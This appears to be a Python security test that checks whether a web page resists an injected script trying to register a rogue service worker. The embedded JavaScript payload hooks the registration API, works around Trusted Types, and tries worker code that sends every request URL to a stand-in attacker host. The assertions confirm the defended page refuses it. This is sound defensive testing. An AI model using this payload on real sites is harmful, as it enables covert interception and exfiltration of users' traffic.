"""A script that runs before the page's own makes the page register the script's service worker in place of the door.

That worker would see the address of every response, and could pass it on. Then the script tries this with a request of
its own.
"""

from tests.attacks.speech import ADDRESS, TRACES, at_site, mark, said

BEFORE = """(known) => {
  const { note } = evil, container = globalThis.ServiceWorkerContainer && ServiceWorkerContainer.prototype;
  if (!container) return;
  const { register, getRegistration } = container;
  const frame = document.documentElement.appendChild(document.createElement("iframe")), { trustedTypes } = frame.contentWindow;
  const policy = trustedTypes && trustedTypes.createPolicy("gossamer-vault", { createScriptURL: (text) => text });
  const allowed = (url) => (policy ? policy.createScriptURL(url) : url);
  const text = `addEventListener("fetch", (event) => {
    fetch("${known.evil}/door?" + encodeURIComponent(event.request.url), { mode: "no-cors" }).catch(() => {});
    event.respondWith(Response.redirect("${known.evil}/door?" + encodeURIComponent(event.request.url)));
  })`;
  const scripts = [
    "/injected.js", "/robots.txt", `${known.evil}/door.js`, `data:text/javascript,${encodeURIComponent(text)}`,
    URL.createObjectURL(new Blob([text], { type: "text/javascript" })),
  ];
  const attempt = async (url, options) => {
    try { note(`registered ${(await register.call(navigator.serviceWorker, allowed(url), options)).scope} by ${url}`); }
    catch (error) { note(`refused ${url}: ${error.name}`); }
  };
  container.register = async function (url, options) {
    note(`asked for ${url}`);
    for (const each of scripts) for (const more of [options, { ...options, type: "module" }, { scope: "/" }, {}]) await attempt(each, more);
    return register.call(this, url, options);
  };
  container.getRegistration = async function (...all) {
    const found = await getRegistration.apply(this, all);
    note(found && found.scope);
    return found;
  };
}"""
GO = "setTimeout(() => location.assign(address({})));"
READ = said(TRACES, "return traces();")


def act(scene):
    visitor, subject = scene.visitor, scene.subject
    subject.sign_in(visitor)
    scene.collect()
    mark(visitor)
    scene.run(said(ADDRESS, GO), leaves=True)
    at_site(visitor, subject)
    scene.run(READ)
    subject.again(visitor)
    scene.collect()


def test_ours(assault, ours, collector):
    outcome = assault(ours)
    assert "asked for" in outcome.loot and "refused" in outcome.loot, "the page asked for no door"
    assert "registered " not in outcome.loot, "another service worker was let in"
    assert [heard.url for heard in collector.heard] == []
    assert ours.codes(), "no code was sent to the script's request"
    assert outcome.stolen == ()
